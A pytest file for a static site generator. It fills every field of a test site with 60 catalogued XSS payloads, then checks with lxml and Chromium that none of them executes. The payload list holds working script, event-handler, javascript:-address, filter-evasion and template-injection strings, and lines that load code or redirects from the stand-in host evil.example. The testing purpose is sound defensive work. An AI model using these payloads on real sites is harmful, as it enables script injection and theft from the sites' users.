"""No script from content: 60 known XSS payloads in every field that reaches a page, in Chromium and lxml.

A site is built whose every text field carries payloads: the site's title,
description and publisher; each series' title, blurb and publisher; each
unit's name, aliases, summary, tally and target notes, milestone titles and
descriptions; each interview's and case study's title, summary, tags,
interviewee name and role, image alt and caption, source publisher and
title, problem, actions and outcome; and the Markdown body (raw HTML, text,
a heading, a list, a table, a footnote, links and images with script
addresses). Fields whose validation refuses such text (slugs, ids, dates,
counts) keep valid values. The 60 payloads are spread over 15 groups (each
field of group ``k`` holds payloads ``k``, ``k+15``, ``k+30`` and ``k+45``, one
after the other), so every payload sits in every field while the site keeps
under 100 pages for the browser to load.

Then:

- **lxml** (no browser needed): every HTML page, Atom feed (and the HTML of
  each entry) and JSON file is parsed; no ``<script>`` but the theme's own
  (from a clean build) and valid JSON-LD without a raw ``</script``; no
  ``on*`` attribute; no ``javascript:``/``vbscript:``/non-picture ``data:``
  address; no frame, object, embed, base, form or meta refresh from
  content; nothing loaded from ``evil.example``; ``{{7*7}}`` shown as typed,
  never ``49``.
- **Chromium**: every HTML page, feed and JSON file is loaded with
  ``alert``/``confirm``/``prompt``/``print``/``xss`` replaced by recorders
  before any page script; no recorder is called, no dialog opens, no page
  navigates away, nothing is fetched from ``evil.example``, and the payloads
  typed in text fields are shown as text. The search page is searched for a
  payload word and its results run nothing either.

A ``source.url`` of ``javascript:…`` is refused as not a web address (see
`test_a_script_address_in_source_url_never_becomes_a_link`).

Payload sources: the OWASP XSS Filter Evasion Cheat Sheet
(https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html),
PortSwigger's XSS cheat sheet, the mutation-XSS ``<math>``/``<noscript>``/``<svg>``
parser differentials, and server-side template injection probes.

Imports: lxml, pytest; sitegen.build; tests.sitekit; the browser fixtures of
tests/browser/conftest.py.
"""

from __future__ import annotations

import functools
import http.server
import json
import re
import threading
import unicodedata
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Iterator
from urllib.parse import urlsplit

import lxml.etree
import lxml.html
import pytest

from sitegen.build import BuildOptions, build
from sitegen.errors import SiteError

from ..sitekit import build_at, interview, write_site
from .conftest import _SiteHandler

EVIL_HOST = "evil.example"
"""The one host content must never make the browser load from (``<base>``, ``<link>``, CSS, refresh, frames)."""

PAYLOADS: tuple[str, ...] = (
    # script elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg><script>alert(1)</script></svg>",
    "<script/x>alert(1)</script>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a onmouseover=alert(1) href=#>hover</a>",
    # script addresses
    '<a href="javascript:alert(1)">点我</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x61;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href=" &#14;  javascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    '<form action="javascript:alert(1)"><button>提交</button></form>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    # frames, meta, base, styles
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<div style="background:url(https://evil.example/x.png)">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    "<style>@import 'https://evil.example/x.css'; *{background:url(javascript:alert(1))}</style>",
    # breakouts from the context a value is written into
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "' autofocus onfocus='alert(1)",
    "</textarea><script>alert(1)</script>",
    "]]><script>alert(1)</script><![CDATA[",
    "--><script>alert(1)</script><!--",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    # mutation XSS (parser differentials)
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    # template injection: shown as typed, never evaluated
    "{{7*7}}",
    "{% raw %}{{ config }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    # Unicode tricks
    "＜script＞alert(1)＜/script＞",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\u202e<script>alert(1)</script>",
    "<img src=x on\u00aderror=alert(1)>",
    "\u2028\u2029</script><script>xss()</script>",
)
"""60 known XSS payloads (sources in the module docstring)."""

SCRIPT_ADDRESSES: tuple[str, ...] = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "jav&#x61;script:alert(1)",
    "javascript&colon;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
)
"""Addresses that would run script if they became a link or a picture's source."""

BREAKOUT_ADDRESSES: tuple[str, ...] = (
    'https://example.org/"><script>alert(1)</script>',
    "https://example.org/' onmouseover='alert(1)",
    "https://example.org/?q=</script><script>alert(1)</script>",
)
"""Web addresses that try to leave the attribute they are written into."""

GROUPS = 15
TEMPLATE_PROBE = "模板{{7*7}}注入"
"""A text whose ``{{7*7}}`` must be shown as typed (a template engine would print 模板49注入)."""

SITE_TITLE = "站点</title><script>alert(1)</script>{{7*7}}"
SITE_CONFIG = (
    f"title: {json.dumps(SITE_TITLE, ensure_ascii=False)}\n"
    'description: "\\"><img src=x onerror=alert(1)>"\n'
    "publisher: \"<svg onload=alert(1)>'\\\"\"\n"
    "base_url: https://example.org/\n"
)
"""site.yaml with payloads in the title, description and publisher."""

RECORDER = """
(() => {
  const calls = [];
  Object.defineProperty(window, "__xssCalls", { value: calls });
  const record = (name) => function (...args) {
    calls.push(name + "(" + args.map(String).join(",") + ")");
    console.log("XSS-MARKER " + name);
  };
  for (const name of ["alert", "confirm", "prompt", "print", "xss"]) { window[name] = record(name); }
})();
"""
"""Init script: runs in every frame before any page script and records every call a payload makes."""

_OFF_LOOPBACK = re.compile(r"^(?!http://127\.0\.0\.1[:/]|data:|blob:|about:|file:)")

SETTLE = "() => new Promise(done => requestAnimationFrame(() => setTimeout(done, 0)))"
"""Wait for one frame and one task: autofocus, onerror of a broken picture and ontoggle have fired by then."""


# -- the hostile site -------------------------------------------------------------------------

def payload_groups() -> list[tuple[str, ...]]:
    """The payloads in `GROUPS` groups: group ``k`` holds payloads ``k``, ``k+GROUPS``, ``k+2*GROUPS`` …"""
    return [PAYLOADS[k::GROUPS] for k in range(GROUPS)]


def yaml_text(text: str) -> str:
    """Quote ``text`` as a YAML double-quoted scalar that reads back exactly as ``text``.

    Backslash and double quote are escaped, TAB and line break written as
    ``\\t`` and ``\\n``; format characters as ``\\uXXXX`` escapes (YAML 1.1
    §5.7), so the file itself holds only printable text. Line and paragraph
    separators (U+2028, U+2029) are left out: sitegen refuses them in values,
    typed or as escapes, as it does control characters, for which this raises
    ValueError (tests/test_hostile_yaml.py); the pages' Markdown holds them.
    """
    out = []
    for char in text:
        category = unicodedata.category(char)
        if char in "\t\n":
            out.append("\\t" if char == "\t" else "\\n")
        elif category == "Cc":
            raise ValueError(f"control character U+{ord(char):04X} in a payload for a YAML field")
        elif char in '\\"':
            out.append("\\" + char)
        elif category in ("Zl", "Zp"):
            continue
        elif category == "Cf":
            out.append(f"\\u{ord(char):04x}")
        else:
            out.append(char)
    return '"' + "".join(out) + '"'


def _items(values: list[str] | tuple[str, ...], indent: str) -> str:
    return "".join(f"{indent}- {yaml_text(value)}\n" for value in values)


def markdown_body(number: int, group: tuple[str, ...]) -> str:
    """A Markdown body with each payload as raw HTML, as text, in a heading, list, table and footnote,
    and with script addresses as links, autolinks, reference links and pictures."""
    blocks = []
    for index, payload in enumerate(group):
        url = SCRIPT_ADDRESSES[(number + index) % len(SCRIPT_ADDRESSES)]
        web = BREAKOUT_ADDRESSES[(number + index) % len(BREAKOUT_ADDRESSES)]
        blocks += [f"## 问题{index}：{payload}", payload, f"正文中的文字 {payload} 结束。", f"- 列表 {payload}",
                   f"[链接]({url}) [链接二](<{url}>) <{url}> [引用][r{index}] ![图片]({url}) "
                   f"[网址]({web}) ![{payload}](images/ok.svg)",
                   f"[r{index}]: {url}", f"| 表头 | {payload} |\n|---|---|\n| 单元格 | {payload} |",
                   f"脚注[^{index}]", f"[^{index}]: {payload}"]
    return "\n\n".join(blocks) + "\n"


def interview_page(number: int, group: tuple[str, ...], slug: str) -> str:
    """An interview whose every text field holds the group's payloads; slug, date and ids stay valid."""
    text = yaml_text(" ".join(group))
    return (
        "---\n"
        f"title: {text}\nslug: {slug}\nseries: s{number:02d}\nunit: u{number:02d}\n"
        f"interviewee:\n  name: {text}\n  role: {text}\n"
        f"date: 2018-05-{1 + number % 28:02d} 10:00\nsummary: {text}\ntags: [{text}]\n"
        f"images:\n  - src: images/ok.svg\n    alt: {text}\n    caption: {text}\n"
        f"source:\n  publisher: {text}\n  title: {text}\n"
        f"  url: {yaml_text(BREAKOUT_ADDRESSES[number % len(BREAKOUT_ADDRESSES)])}\n"
        "---\n\n" + markdown_body(number, group))


def case_page(number: int, group: tuple[str, ...]) -> str:
    """A case study whose every text field holds the group's payloads."""
    text = yaml_text(" ".join(group))
    return (
        "---\n"
        f"title: {text}\nslug: c{number:02d}\nunit: u{number:02d}\nstatus: in_progress\n"
        f"problem: {text}\nactions:\n{_items(group, '  ')}outcome: {text}\n"
        f"date: 2018-06-{1 + number % 28:02d} 10:00\nsummary: {text}\ntags: [{text}]\n"
        f"source:\n  publisher: {text}\n  title: {text}\n"
        f"  url: {yaml_text(BREAKOUT_ADDRESSES[(number + 1) % len(BREAKOUT_ADDRESSES)])}\n"
        "---\n\n" + markdown_body(number + 1, group))


def unit_record(number: int, group: tuple[str, ...]) -> str:
    """A unit whose name, aliases, summary, notes, milestone titles and descriptions hold the payloads."""
    text = yaml_text(" ".join(group))
    return (
        f"name: {yaml_text(' '.join(group) + f' #{number}')}\nlevel: town\n"
        f"aliases:\n{_items([p + f'别名{number}' for p in group], '  ')}summary: {text}\n"
        "tallies:\n"
        "  - as_of: 2018-04-26\n    batches: 10\n    collected: 6\n    escalated: 1\n"
        f"    resolved: 2\n    in_progress: 3\n    note: {text}\n"
        "targets:\n"
        "  - group: residents\n    target: 80\n    measured: 40\n    measured_as_of: 2018-04-26\n"
        f"    note: {text}\n"
        "milestones:\n"
        + "".join(f"  - date: 2018-01-{10 + index:02d}\n    title: {yaml_text(p)}\n    description: {text}\n"
                  for index, p in enumerate(group)))


def series_record(group: tuple[str, ...]) -> str:
    """A series whose title, blurb and publisher hold the payloads."""
    text = yaml_text(" ".join(group))
    return f"title: {text}\nblurb: {text}\npublisher: {text}\n"


OK_SVG = ('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
          '<rect width="10" height="10" fill="#888"/></svg>\n')


def write_hostile_site(root: Path) -> Path:
    """Write the site of the module docstring into ``root``; return ``root``.

    For each group ``k``: series ``s{k}``, unit ``u{k}``, interview ``x{k}``
    and case study ``c{k}``; plus the interview ``xtpl`` titled `TEMPLATE_PROBE`.
    """
    files: dict[str, str] = {"content/images/ok.svg": OK_SVG}
    for number, group in enumerate(payload_groups()):
        files[f"content/series/s{number:02d}.yaml"] = series_record(group)
        files[f"content/units/u{number:02d}.yaml"] = unit_record(number, group)
        files[f"content/interviews/x{number:02d}.md"] = interview_page(number, group, f"x{number:02d}")
        files[f"content/cases/c{number:02d}.md"] = case_page(number, group)
    files["content/interviews/xtpl.md"] = interview_page(0, (TEMPLATE_PROBE,), "xtpl")
    return write_site(root, files, config=SITE_CONFIG, records=False)


def shown_as_text(payload: str) -> bool:
    """True for a payload whose exact text a reader sees (printable, no runs of spaces), to look for in a page."""
    return payload.isprintable() and "  " not in payload and payload == payload.strip()


# -- what a built site may hold -----------------------------------------------------------------

_URL_ATTRIBUTES = ("href", "src", "action", "formaction", "data", "poster", "background", "srcset",
                   "{http://www.w3.org/1999/xlink}href", "xlink:href", "ping", "cite", "longdesc")
_SAFE_DATA = re.compile(r"data:image/(png|jpeg|gif|webp)[;,]")
_TAB_OR_NEWLINE = re.compile(r"[\t\n\r]")
_C0_AND_SPACE = "".join(map(chr, range(0x21)))
_CONTENT_ONLY = frozenset({"iframe", "frame", "frameset", "object", "embed", "applet", "base", "form",
                           "button", "textarea", "select", "isindex", "math", "template", "portal"})


def dangerous_url(value: str) -> bool:
    """True for an address a browser would run or show as a document: ``javascript:``,
    ``vbscript:``, and ``data:`` other than a PNG/JPEG/GIF/WebP picture.

    Read as a browser reads it (WHATWG URL standard, basic URL parser):
    leading and trailing C0 controls and spaces are stripped, then every
    ASCII tab or newline is removed, so ``" java\\tscript:"`` is
    ``javascript:``; lxml has already decoded character references.
    """
    text = _TAB_OR_NEWLINE.sub("", value.strip(_C0_AND_SPACE)).lower()
    if text.startswith(("javascript:", "vbscript:", "livescript:")):
        return True
    return text.startswith("data:") and not _SAFE_DATA.match(text)


@dataclass(frozen=True)
class Theme:
    """What the theme itself writes, from a clean build: its scripts and its element names.

    ``scripts``: ``(type, src, text)`` of every script but JSON-LD (the search
    page's Pagefind UI and its set-up). ``elements``: every element name in
    any page (``svg`` of charts, ``input`` of the search box …); content may
    not add the dangerous ones, but the theme may.
    """

    scripts: frozenset[tuple[str, str, str]]
    elements: frozenset[str]


def theme_of(output: Path) -> Theme:
    """Read the `Theme` from a clean build's output folder."""
    scripts, elements = set(), set()
    for path in output.rglob("*.html"):
        for element in lxml.html.fromstring(path.read_bytes()).iter():
            if not isinstance(element.tag, str):
                continue
            elements.add(element.tag)
            if element.tag == "script" and (element.get("type") or "").lower() != "application/ld+json":
                scripts.add(((element.get("type") or "").lower(), element.get("src") or "",
                             (element.text or "").strip()))
    return Theme(frozenset(scripts), frozenset(elements))


def html_violations(name: str, root: Any, theme: Theme) -> list[str]:
    """Every way the HTML tree ``root`` could run script or load from `EVIL_HOST`: ``"<name>: <what>"`` lines."""
    found = []
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.lower()
        found += [f"{name}: <{tag} {attr}=…> event attribute" for attr in element.attrib
                  if attr.lower().startswith("on")]
        found += [f"{name}: <{tag} {attr}={element.get(attr)!r}> script address" for attr in _URL_ATTRIBUTES
                  if element.get(attr) is not None and dangerous_url(element.get(attr))]
        found += [f"{name}: <{tag} {attr}={value!r}> loads from {EVIL_HOST} or runs CSS script"
                  for attr, value in element.attrib.items() if _loads_evil(tag, attr, value)]
        if tag == "script":
            found += _script_violations(name, element, theme)
        elif tag == "style" and re.search(rf"//{re.escape(EVIL_HOST)}|javascript:|expression\(", element.text or ""):
            found.append(f"{name}: <style> from content: {(element.text or '')[:80]!r}")
        elif tag == "meta" and (element.get("http-equiv") or "").lower() == "refresh":
            found.append(f"{name}: <meta http-equiv=refresh>")
        elif tag in _CONTENT_ONLY and tag not in theme.elements:
            found.append(f"{name}: <{tag}> element")
    return found


def _loads_evil(tag: str, attr: str, value: str) -> bool:
    """True when the attribute makes the browser fetch from `EVIL_HOST` or run a CSS expression.

    A link (``<a href>``) is followed only on a click, so it is not a load.
    """
    attr = attr.lower()
    if attr == "style":
        return f"//{EVIL_HOST}" in value or bool(re.search(r"expression\(|javascript:", value, re.I))
    fetched = attr in ("src", "srcset", "data", "poster", "background", "action", "formaction") or (
        attr == "href" and tag in ("base", "link"))
    return fetched and f"//{EVIL_HOST}" in value


def _script_violations(name: str, element: Any, theme: Theme) -> list[str]:
    """One ``<script>``: JSON-LD must parse and hold no raw ``</script`` or ``<!--``; any other must be the theme's."""
    kind, text = (element.get("type") or "").lower(), element.text or ""
    if kind == "application/ld+json":
        try:
            json.loads(text)
        except ValueError as failure:
            return [f"{name}: JSON-LD does not parse: {failure}"]
        if "</script" in text.lower() or "<!--" in text:
            return [f"{name}: JSON-LD holds a raw </script or <!--"]
        return []
    if (kind, element.get("src") or "", text.strip()) in theme.scripts:
        return []
    return [f"{name}: a <script type={kind!r} src={element.get('src')!r}> the theme does not write: {text[:80]!r}"]


def output_violations(output: Path, theme: Theme) -> list[str]:
    """Check every file of a built site but Pagefind's: HTML pages, XML (feed entries' HTML too), JSON.

    Returns the problems found, empty when the output is safe (see `html_violations`).
    """
    found: list[str] = []
    for path in sorted(p for p in output.rglob("*") if p.is_file() and "pagefind" not in p.parts):
        name = path.relative_to(output).as_posix()
        data = path.read_bytes()
        if path.suffix == ".html":
            found += html_violations(name, lxml.html.fromstring(data), theme)
        elif path.suffix == ".xml":
            found += _xml_violations(name, data, theme)
        elif path.suffix == ".json":
            try:
                json.loads(data.decode("utf-8"))
            except ValueError as failure:
                found.append(f"{name}: does not parse as JSON: {failure}")
    return found


_FEED_NAMESPACES = ("{http://www.w3.org/2005/Atom}", "{http://www.sitemaps.org/schemas/sitemap/0.9}")


def _siblings(root: Any) -> list[Any]:
    """Processing instructions before the root element (``<?xml-stylesheet …?>`` would make a browser run XSLT)."""
    found, node = [], root.getprevious()
    while node is not None:
        if isinstance(node, lxml.etree._ProcessingInstruction):
            found.append(node)
        node = node.getprevious()
    return found


def _xml_violations(name: str, data: bytes, theme: Theme) -> list[str]:
    """An XML file must be well-formed, and the HTML of each Atom entry as safe as a page."""
    try:
        tree = lxml.etree.fromstring(data)
    except lxml.etree.XMLSyntaxError as failure:
        return [f"{name}: not well-formed XML: {failure}"]
    found = [f"{name}: <{element.tag}> is not an Atom or sitemap element" for element in tree.iter()
             if isinstance(element.tag, str) and not element.tag.startswith(_FEED_NAMESPACES)]
    found += [f"{name}: processing instruction {pi}" for pi in tree.iter(lxml.etree.ProcessingInstruction)]
    found += [f"{name}: processing instruction {pi}" for pi in _siblings(tree)]
    for element in tree.iter("{http://www.w3.org/2005/Atom}content", "{http://www.w3.org/2005/Atom}summary"):
        if element.text and element.get("type") == "html":
            fragment = lxml.html.fragment_fromstring(element.text, create_parent="div")
            found += html_violations(f"{name} (entry HTML)", fragment, theme)
    return found


# -- fixtures ---------------------------------------------------------------------------------

@dataclass(frozen=True)
class HostileSite:
    """The hostile site built: its folder, its output and the theme of a clean build."""

    root: Path
    output: Path
    theme: Theme


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> HostileSite:
    """The hostile site of the module docstring, built (with its search index), and a clean site's `Theme`."""
    clean = write_site(tmp_path_factory.mktemp("clean"), {"content/interviews/a.md": interview()})
    theme = theme_of(build_at(clean))
    root = write_hostile_site(tmp_path_factory.mktemp("hostile"))
    build(BuildOptions(root=root, jobs=1))
    return HostileSite(root, root / "output", theme)


@pytest.fixture(scope="module")
def hostile_url(hostile: HostileSite) -> Iterator[str]:
    """The hostile site served at the root of a loopback port (404s get its 404 page)."""
    handler = functools.partial(_SiteHandler, directory=str(hostile.output))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/"
    finally:
        server.shutdown()
        server.server_close()


@dataclass
class Watch:
    """What the page of one browser context did: dialogs, recorder console markers, main-frame
    navigations, fetches from `EVIL_HOST` (recorder calls are read from each document)."""

    dialogs: list[str]
    markers: list[str]
    navigations: list[str]
    evil: list[str]


def watched_page(browser: Any) -> tuple[Any, Any, Watch]:
    """A new context and page with `RECORDER`, every event recorded in a `Watch`, and no request off loopback.

    Requests to other hosts are aborted (those to `EVIL_HOST` are also recorded).
    Returns ``(context, page, watch)``; the caller closes the context.
    """
    watch = Watch([], [], [], [])
    context = browser.new_context(locale="zh-CN")
    context.add_init_script(RECORDER)

    def refuse(request_route: Any) -> None:
        if (urlsplit(request_route.request.url).hostname or "").endswith(EVIL_HOST):
            watch.evil.append(request_route.request.url)
        request_route.abort()

    context.route(_OFF_LOOPBACK, refuse)  # matched by the driver: loopback requests never wait for Python
    page = context.new_page()
    page.on("dialog", lambda dialog: (watch.dialogs.append(f"{dialog.type}: {dialog.message}"), dialog.dismiss()))
    page.on("console", lambda message: watch.markers.append(message.text) if "XSS-MARKER" in message.text else None)
    page.on("framenavigated", lambda frame: watch.navigations.append(frame.url) if frame == page.main_frame else None)
    return context, page, watch


def site_path(relative: str) -> str:
    """The address path of an output file (``interviews/x00/index.html`` → ``interviews/x00/``)."""
    return relative[:-len("index.html")] if relative.endswith("index.html") else relative


def shown_texts() -> dict[str, list[str]]:
    """The payloads each page must show as text: ``{site path: [payload, …]}``.

    Interview, case, unit and series pages show their group's payloads typed in
    text fields (title, names, notes, blurb); only payloads a reader sees as
    typed are listed (see `shown_as_text`).
    """
    wanted = {"interviews/xtpl/": [TEMPLATE_PROBE]}
    for number, group in enumerate(payload_groups()):
        texts = [p for p in group if shown_as_text(p)]
        for path in (f"interviews/x{number:02d}/", f"cases/c{number:02d}/", f"units/u{number:02d}/",
                     f"series/s{number:02d}/"):
            wanted[path] = texts
    return wanted


# -- tests ------------------------------------------------------------------------------------

def test_the_payload_list_is_long_and_each_payload_is_in_a_group() -> None:
    """Issue 7 asks for at least 40 known payloads; each sits in exactly one group."""
    assert len(PAYLOADS) >= 40 and len(set(PAYLOADS)) == len(PAYLOADS)
    assert sorted(p for group in payload_groups() for p in group) == sorted(PAYLOADS)


def test_no_output_file_holds_a_script_from_content(hostile: HostileSite) -> None:
    """lxml over every output file: no foreign script, event attribute, script address or load from evil.example."""
    pages = list(hostile.output.rglob("*.html"))
    assert len(pages) > 80, "the hostile site should have built every page"
    violations = output_violations(hostile.output, hostile.theme)
    assert not violations, f"{len(violations)} problems:\n" + "\n".join(violations[:60])


def test_template_syntax_is_shown_as_typed_never_evaluated(hostile: HostileSite) -> None:
    """``{{7*7}}`` in a title and in site.yaml is printed as typed; no file anywhere says 模板49注入."""
    page = (hostile.output / "interviews" / "xtpl" / "index.html").read_text(encoding="utf-8")
    assert TEMPLATE_PROBE in lxml.html.fromstring(page).findtext(".//h1")
    everything = "\n".join(p.read_text(encoding="utf-8") for p in hostile.output.rglob("*")
                           if p.suffix in (".html", ".xml", ".json", ".csv"))
    assert "模板49注入" not in everything
    assert "{{7*7}}" in lxml.html.fromstring(
        (hostile.output / "index.html").read_bytes()).findtext(".//title")


def test_no_script_runs_in_chromium_and_text_stays_text(hostile: HostileSite, hostile_url: str,
                                                         browser: Any) -> None:
    """Every HTML page, the site feed, the sitemap and the JSON files, loaded with the recorders in place.

    The other feeds are checked as text by `test_no_output_file_holds_a_script_from_content`
    (well-formed Atom, no stylesheet instruction, no foreign element, entry HTML as safe as a page).
    """
    files = sorted(p.relative_to(hostile.output).as_posix() for p in hostile.output.rglob("*")
                   if (p.suffix in (".html", ".json") and "pagefind" not in p.parts)
                   or p.name in ("feed.xml", "sitemap.xml") and p.parent == hostile.output)
    wanted = shown_texts()
    context, page, watch = watched_page(browser)
    problems = []
    try:
        for relative in files:
            url = hostile_url + site_path(relative)
            watch.navigations.clear()
            response = page.goto(url, wait_until="load")
            assert response is not None and response.ok, url
            page.evaluate(SETTLE)
            calls = page.evaluate("window.__xssCalls || []")
            if calls or watch.navigations != [url] or page.url != url:
                problems.append(f"{relative}: calls {calls}, navigations {watch.navigations}, at {page.url}")
            if site_path(relative) in wanted:
                shown = page.inner_text("main")
                problems += [f"{relative}: not shown as text: {p!r}" for p in wanted[site_path(relative)]
                             if p not in shown]
            if relative == "index.html" and SITE_TITLE not in page.title():
                problems.append(f"index.html: the site title is not shown as typed: {page.title()!r}")
    finally:
        context.close()
    assert len(files) > 80 and set(wanted) <= {site_path(f) for f in files}
    assert not problems, "\n".join(problems)
    assert (watch.dialogs, watch.markers, watch.evil) == ([], [], [])


def test_search_results_for_a_payload_word_run_nothing(hostile: HostileSite, hostile_url: str, browser: Any) -> None:
    """The search records (Pagefind) show payloads as text: searching for them runs nothing."""
    context, page, watch = watched_page(browser)
    try:
        page.goto(hostile_url + "search/", wait_until="load")
        for query in ("onerror", "script", "alert"):
            page.fill("#search input", query)
            page.wait_for_selector(".pagefind-ui__result-link", timeout=15_000)
            page.wait_for_function("document.querySelectorAll('.pagefind-ui__result-excerpt').length > 0")
            page.evaluate(SETTLE)
            assert "alert(1)" in page.inner_text(".pagefind-ui__results"), query
            assert page.evaluate("window.__xssCalls") == [], query
            assert page.evaluate("document.querySelectorAll('.pagefind-ui__results img[onerror], "
                                 ".pagefind-ui__results script').length") == 0
    finally:
        context.close()
    assert (watch.dialogs, watch.markers, watch.evil) == ([], [], [])


def test_a_script_address_in_source_url_never_becomes_a_link(tmp_path: Path) -> None:
    """``source: url: javascript:alert(1)`` (and the like) is refused as not a web address, so it
    never becomes a link."""
    pages = {f"content/interviews/a{number}.md": interview(
        f"来源{number}", extra=f"source:\n  publisher: 某报\n  url: {yaml_text(address)}\n")
        for number, address in enumerate(SCRIPT_ADDRESSES)}
    root = write_site(tmp_path / "site", pages)
    try:
        build(BuildOptions(root=root, jobs=1, search=False))
    except SiteError as failure:
        assert {p.path for p in failure.problems} == set(pages)
        return
    theme = Theme(frozenset(), frozenset())
    violations = [v for path in (root / "output" / "interviews").rglob("*.html")
                  for v in html_violations(path.relative_to(root / "output").as_posix(),
                                           lxml.html.fromstring(path.read_bytes()), theme)]
    assert not violations, "\n".join(violations)


def test_the_checks_see_a_theme_that_does_not_escape(tmp_path: Path, hostile: HostileSite, browser: Any) -> None:
    """The checks above have teeth: a site template writing the title with ``|safe`` is caught by both."""
    root = write_hostile_site(tmp_path / "site")
    theme = (Path(__file__).resolve().parents[2] / "templates" / "interview.html").read_text(encoding="utf-8")
    assert "<h1>{{ entry.title }}</h1>" in theme
    (root / "templates").mkdir()
    (root / "templates" / "interview.html").write_text(
        theme.replace("<h1>{{ entry.title }}</h1>", "<h1>{{ entry.title|safe }}</h1>"), encoding="utf-8")
    build(BuildOptions(root=root, jobs=1, search=False))
    found = output_violations(root / "output", hostile.theme)
    assert any("event attribute" in v for v in found) and any("does not write" in v for v in found)
    context, page, watch = watched_page(browser)
    try:
        page.goto((root / "output" / "interviews" / "x05" / "index.html").as_uri(), wait_until="load")
        page.evaluate(SETTLE)
        assert page.evaluate("window.__xssCalls")
    finally:
        context.close()
